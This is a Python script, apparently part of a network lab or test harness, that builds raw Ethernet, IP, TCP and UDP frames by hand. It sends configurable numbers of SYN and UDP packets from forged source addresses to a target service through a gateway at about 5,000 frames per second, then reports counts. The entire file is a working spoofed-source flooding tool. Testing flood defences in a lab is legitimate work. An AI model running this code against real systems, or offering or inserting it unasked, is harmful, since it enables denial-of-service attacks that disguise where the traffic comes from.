#!/usr/bin/python3
"""A spoofing flooder on a data LAN (raw frames, no scapy needed).

flood.py IFACE GW VIP SYN_PORT SYNS UDP_PORT UDPS SOURCES
    Sends SYNS TCP SYNs to VIP:SYN_PORT, then UDPS UDP datagrams to
    VIP:UDP_PORT, each from a forged source 198.18.0.130 + (i mod SOURCES)
    and a random source port, framed to GW's MAC (read from the neighbour
    table: the caller has talked through GW before). About 5,000 frames/s.
    Prints "sent syn N" / "sent udp N" every 500 frames and finally
    {"syn": n, "udp": n}.
"""
import json, os, random, socket, struct, sys, time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def mac_of(ip):
    for line in open("/proc/net/arp").read().splitlines()[1:]:
        f = line.split()
        if f[0] == ip and f[3] != "00:00:00:00:00:00":
            return bytes.fromhex(f[3].replace(":", ""))
    raise SystemExit("no neighbour entry for %s" % ip)


def frame(src_mac, dst_mac, src, dst, proto, l4):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), random.getrandbits(16), 0,
                     64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dst_mac + src_mac + b"\x08\x00" + ip + l4


def l4(proto, src, dst, sport, dport):
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst)
    if proto == 6:
        h = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02,
                        64240, 0, 0)
        c = csum(pseudo + struct.pack("!BBH", 0, 6, len(h)) + h)
        return h[:16] + struct.pack("!H", c) + h[18:]
    data = b"spoofed"
    h = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    c = csum(pseudo + struct.pack("!BBH", 0, 17, len(h)) + h) or 0xFFFF
    return h[:6] + struct.pack("!H", c) + h[8:]


def main():
    iface, gw, vip = sys.argv[1], sys.argv[2], sys.argv[3]
    syn_port, syns, udp_port, udps, sources = map(int, sys.argv[4:9])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    src_mac = s.getsockname()[4]
    dst_mac = mac_of(gw)
    sent = {"syn": 0, "udp": 0}
    for kind, proto, port, n in (("syn", 6, syn_port, syns), ("udp", 17, udp_port, udps)):
        for i in range(n):
            src = "198.18.0.%d" % (130 + i % sources)
            sport = random.randint(1024, 65535)
            s.send(frame(src_mac, dst_mac, src, vip, proto, l4(proto, src, vip, sport, port)))
            sent[kind] += 1
            if sent[kind] % 500 == 0:
                print("sent %s %d" % (kind, sent[kind]), flush=True)
            if i % 50 == 49:
                time.sleep(0.01)
    print(json.dumps(sent), flush=True)


main()
